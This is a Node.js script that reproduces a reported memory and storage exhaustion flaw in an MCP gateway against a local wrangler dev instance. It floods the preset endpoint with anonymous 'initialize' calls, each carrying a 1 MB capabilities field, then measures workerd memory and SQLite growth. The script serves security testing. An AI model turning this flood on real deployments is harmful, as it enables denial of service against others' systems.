/**
 * `node scripts/attack-initialize.mjs [--port 8797] [--requests 300] [--idle 10]`: finding 2 of
 * issue 12, reproduced against a local `wrangler dev` (offline, its own fresh state directory).
 *
 * Seeds the demo preset (public), then sends `--requests` anonymous `initialize` calls, each with
 * `capabilities.experimental.x` of 1,000,000 characters, and reports the workerd processes' RSS
 * and the preset object's SQLite size before, right after, and after `--idle` seconds.
 * Everything it starts is stopped before it exits; the state directory is removed.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";
import { startDemoUpstream } from "./demo-upstream.mjs";
import { ensureDevVars, readDevVars } from "./lib/dev-vars.mjs";
import { runWrangler, spawnWrangler, stopProcessGroup } from "./lib/wrangler.mjs";

const ROOT = fileURLToPath(new URL("..", import.meta.url));
const { values: opts } = parseArgs({
  options: {
    port: { type: "string", default: "8797" },
    requests: { type: "string", default: "300" },
    concurrency: { type: "string", default: "8" },
    idle: { type: "string", default: "10" },
  },
});
const port = Number(opts.port);
const requests = Number(opts.requests);
const base = `http://127.0.0.1:${port}`;
const state = mkdtempSync(join(tmpdir(), "mcpgate-attack-"));

/** @type {import('node:child_process').ChildProcess | undefined} */
let wrangler;
/** @type {Awaited<ReturnType<typeof startDemoUpstream>> | undefined} */
let demo;

/** The pids of every workerd process descended from `root`. */
function workerdPids(root) {
  const children = new Map();
  for (const entry of readdirSync("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const stat = readFileSync(`/proc/${entry}/stat`, "utf8");
      const ppid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
      const comm = stat.slice(stat.indexOf("(") + 1, stat.lastIndexOf(")"));
      children.set(Number(entry), { ppid, comm });
    } catch {}
  }
  const found = [];
  const walk = (pid) => {
    for (const [child, info] of children) {
      if (info.ppid !== pid) continue;
      if (info.comm.startsWith("workerd")) found.push(child);
      walk(child);
    }
  };
  walk(root);
  return found;
}

const rssMb = () =>
  workerdPids(/** @type {number} */ (wrangler?.pid)).reduce((sum, pid) => {
    const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
    return sum + (m ? Number(m[1]) / 1024 : 0);
  }, 0);

/** Bytes of the preset objects' SQLite files (database and WAL) under the state directory. */
function sqliteMb() {
  let bytes = 0;
  const walk = (dir) => {
    for (const name of readdirSync(dir)) {
      const path = join(dir, name);
      const s = statSync(path);
      if (s.isDirectory()) walk(path);
      else if (dir.includes("PresetGateway") && /\.sqlite(-wal|-shm)?$/.test(name)) bytes += s.size;
    }
  };
  walk(state);
  return bytes / 1024 / 1024;
}

const sample = (label) => {
  const line = `${label.padEnd(28)} workerd RSS ${rssMb().toFixed(0).padStart(5)} MB   preset object SQLite ${sqliteMb().toFixed(1).padStart(7)} MB`;
  console.log(line);
};

async function main() {
  ensureDevVars(join(ROOT, ".dev.vars"), join(ROOT, ".dev.vars.example"));
  const adminToken = readDevVars(join(ROOT, ".dev.vars")).ADMIN_TOKEN;
  await runWrangler(["d1", "migrations", "apply", "DB", "--local", "--persist-to", state], { cwd: ROOT });
  demo = await startDemoUpstream({ port: 0 });
  wrangler = spawnWrangler(["dev", "--port", String(port), "--ip", "127.0.0.1", "--persist-to", state, "--show-interactive-dev-session=false"], { cwd: ROOT });
  for (let i = 0; ; i++) {
    try {
      if ((await fetch(`${base}/healthz`)).status === 200) break;
    } catch {}
    if (i > 120) throw new Error("wrangler dev did not become healthy");
    await new Promise((r) => setTimeout(r, 500));
  }
  const seed = await (
    await fetch(`${base}/api/v1/admin/demo`, {
      method: "POST",
      headers: { authorization: `Bearer ${adminToken}`, "content-type": "application/json" },
      body: JSON.stringify({ upstreamUrl: `${demo.url}/demo/mcp` }),
    })
  ).json();
  const url = seed.preset.url;
  const init = (capabilities) => ({
    jsonrpc: "2.0",
    id: 1,
    method: "initialize",
    params: { protocolVersion: "2025-11-25", capabilities, clientInfo: { name: "attack", version: "1" } },
  });
  const post = (body) =>
    fetch(url, { method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream" }, body: JSON.stringify(body) });
  // One plain session first, so the object exists and its baseline is measured.
  await (await post(init({}))).text();
  await new Promise((r) => setTimeout(r, 1_000));
  sample("before");
  const x = "x".repeat(1_000_000);
  const statuses = new Map();
  let next = 0;
  const t0 = Date.now();
  await Promise.all(
    Array.from({ length: Number(opts.concurrency) }, async () => {
      while (next < requests) {
        next++;
        const res = await post(init({ experimental: { x } })).catch(() => null);
        const status = res ? res.status : "network error";
        await res?.text().catch(() => {});
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
      }
    }),
  );
  console.log(
    `${requests} initialize calls with a 1 MB capabilities.experimental.x in ${((Date.now() - t0) / 1000).toFixed(1)} s: ${JSON.stringify(Object.fromEntries(statuses))}`,
  );
  sample("right after");
  await new Promise((r) => setTimeout(r, Number(opts.idle) * 1000));
  sample(`after ${opts.idle} s idle`);
  const probe = await post(init({}));
  console.log(`a new plain initialize afterwards: ${probe.status}`);
  await probe.text();
}

try {
  await main();
} catch (e) {
  console.error(e);
  process.exitCode = 1;
} finally {
  await Promise.allSettled([wrangler && stopProcessGroup(wrangler), demo?.close()]);
  rmSync(state, { recursive: true, force: true });
}
